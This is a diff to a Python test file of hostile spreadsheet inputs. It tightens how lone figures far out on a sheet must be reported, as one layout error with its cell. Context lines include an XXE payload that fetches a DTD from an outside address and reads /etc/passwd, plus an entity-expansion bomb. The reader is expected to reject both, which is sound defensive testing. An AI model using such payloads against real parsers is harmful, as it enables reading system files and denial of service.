@@ -2,10 +2,10 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+from collections.abc import Iterable, Iterator
 from xml.sax.saxutils import escape
 
-from tests.hostile.case import Case, accepted, either, rejected, warned
+from tests.hostile.case import Answer, Case, Holds, Required, accepted, either, holding, rejected, warned
 from tests.hostile.workbook import (
     BOOK,
     BOOK_RELATIONS,
@@ -248,6 +248,22 @@ def _elsewhere() -> bytes:
     return xlsx({**dict.fromkeys(parts()), **told})
 
 
+def _told_beside(cell: str) -> Holds:
+    """Ask that the whole report is read, and a lone figure elsewhere is an error with its cell."""
+
+    def holds(answer: Answer) -> Iterable[str]:
+        found = {o["cell"]: str(o["obs_value"]) for o in answer.observations("Report.xlsx")}
+        if found != {"B6": "7", "C6": "12345", "B7": "3", "C7": "678"}:
+            yield f"read instead: {found}"
+        told = [(f["code"], f["severity"], f["cell"]) for f in answer.findings("Report.xlsx")]
+        if told != [("LAYOUT_UNSURE", "error", cell)]:
+            yield f"told instead: {told}"
+        if answer.code != 1:
+            yield f"exit {answer.code}"
+
+    return holds
+
+
 CASES: tuple[Case, ...] = (
     rejected("c03_quadratic_sheet", "an entity of 50 kB used 20,000 times", _BOTH, _quadratic),
     rejected("c06_ext_dtd", "an external document type with a parameter entity", _DAMAGED, lambda: with_sheet(_doctype('<!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/passwd">%p;]>'))),
@@ -266,7 +282,8 @@ CASES: tuple[Case, ...] = (
     accepted("c44_richtext", "a district written in runs, with a guide to its sound", lambda: _strings_xml(_si('<si><r><t>東</t></r><r><rPr><b/></rPr><t>京</t></r><rPh sb="0" eb="2"><t>トウキョウ</t></rPh><phoneticPr fontId="1"/></si>')), label="東京"),
     accepted("c47_dim_huge", "the sheet says it is as large as a sheet can be", lambda: with_sheet(sheet(before='<dimension ref="A1:XFD1048576"/>'))),
     accepted("c50_dim_garbage", "the sheet says its size is #REF!", lambda: with_sheet(sheet(before='<dimension ref="#REF!"/>'))),
-    either("c53_sparse_row", "a figure at the end of the row, in XFD6", "LAYOUT_UNSURE", lambda: with_cells(D6=number("XFD6", "5")), cell="B6"),
+    # No header says what the far figure is: it is an error by itself, and costs the table beside it nothing.
+    Case("c53_sparse_row", "a figure at the end of the row, in XFD6", Required.SET, holding(lambda: with_cells(D6=number("XFD6", "5")), "Report.xlsx"), holds=_told_beside("XFD6")),
     accepted("c56_1M_rows", "as many rows as a sheet holds", _long, others=frozenset(map(str, range(1_048_577))), seconds=900, mib=8192),
     warned("sheet_full", "words and figures in the last two rows of the sheet", "SHEET_FULL", _full, others=frozenset({"7", "3", "678", "5"})),
     rejected("c59_dup_sheetnames", "two sheets named Report, with 12345 and 99999", _DAMAGED, lambda: _two_sheets("Report")),
@@ -365,7 +382,7 @@ CASES: tuple[Case, ...] = (
     rejected("sst_figure_oob", "the figure is a shared string that is not there", _DAMAGED, lambda: with_cells(C6=typed("C6", "s", "999")), cell="C6"),
     rejected("sst_superscript_digits", "shared string ²", _DAMAGED, lambda: with_cells(A6=typed("A6", "s", "²")), cell="A6"),
     rejected("cell_nine_letters", "a cell whose reference has nine letters", _DAMAGED, lambda: with_cells(D6=number("ABCDEFGHI6", "5"))),
-    either("cell_lone_corner", "a lone cell in the last corner of the sheet", f"{_BOTH} NUMBER_UNEXPLAINED LAYOUT_UNSURE", lambda: with_sheet(sheet(rows() + f'<row r="1048576">{number("XFD1048576", "5")}</row>'))),
+    Case("cell_lone_corner", "a lone figure in the last corner of the sheet", Required.SET, holding(lambda: with_sheet(sheet(rows() + f'<row r="1048576">{number("XFD1048576", "5")}</row>')), "Report.xlsx"), holds=_told_beside("XFD1048576")),
     either("cell_far_text", "a lone word in XFD200000", f"{_BOTH} LAYOUT_UNSURE", lambda: with_sheet(sheet(rows() + f'<row r="200000">{text("XFD200000", "x")}</row>'))),
     rejected("cell_row_0", "a cell in row 0", _DAMAGED, lambda: with_sheet(sheet(f'<row r="0">{number("A0", "5")}</row>' + rows()))),
     rejected("cell_row_beyond", "a cell in row 1,048,577", _DAMAGED, lambda: with_sheet(sheet(rows() + f'<row r="1048577">{number("A1048577", "5")}</row>'))),
